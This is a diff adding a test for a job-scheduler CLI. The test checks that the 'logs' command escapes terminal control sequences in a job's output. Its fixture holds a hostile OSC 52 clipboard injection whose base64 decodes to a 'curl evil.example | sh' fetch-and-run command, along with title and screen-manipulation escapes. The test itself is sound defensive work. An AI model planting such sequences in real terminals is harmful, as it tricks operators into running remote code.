@@ -418,6 +418,34 @@ def test_logs_in_json_give_the_output_and_where_it_ended(cli):
     assert cli("logs", str(job.pk)).stdout == "hello\n"
 
 
+# A job's output as a hostile tenant writes it for the operator who reads it: the clipboard
+# (OSC 52), the window's title, a cleared screen, the cursor moved up, C1's CSI, a NUL.
+HOSTILE_OUTPUT = (
+    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\x1b[1A\xc2\x9b6n\x00done\tok\n"
+)
+
+
+@SYNC_SERVED_STREAM
+def test_logs_write_out_the_control_characters_a_job_would_send_the_readers_terminal(cli):
+    cli("submit", "--", "python", "x.py")
+    job = newest_job()
+    bind(job, cli.node, [0])
+    run(job)
+    add_log(job, HOSTILE_OUTPUT)
+    finish(job, 0)
+    shown = (
+        "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b]0;pwned\\x07"
+        "\\x1b[2J\\x1b[1A\\x9b6n\\x00done\tok\n"
+    )
+    for args in (("logs", str(job.pk)), ("logs", "-f", str(job.pk))):
+        done = cli(*args)
+        assert (done.returncode, done.stdout) == (0, shown), (args, done.stderr)
+    # as the job wrote it, on request (its colours), and in JSON (escaped there)
+    assert cli("logs", "--raw", str(job.pk)).stdout == HOSTILE_OUTPUT.decode()
+    assert cli("logs", "-f", "--raw", str(job.pk)).stdout == HOSTILE_OUTPUT.decode()
+    assert json.loads(cli("logs", str(job.pk), "-o", "json").stdout)["data"] == HOSTILE_OUTPUT.decode()
+
+
 def test_why_and_status_show_the_start_estimate_its_band_basis_and_place_in_the_queue(cli):
     from datetime import UTC, datetime
 
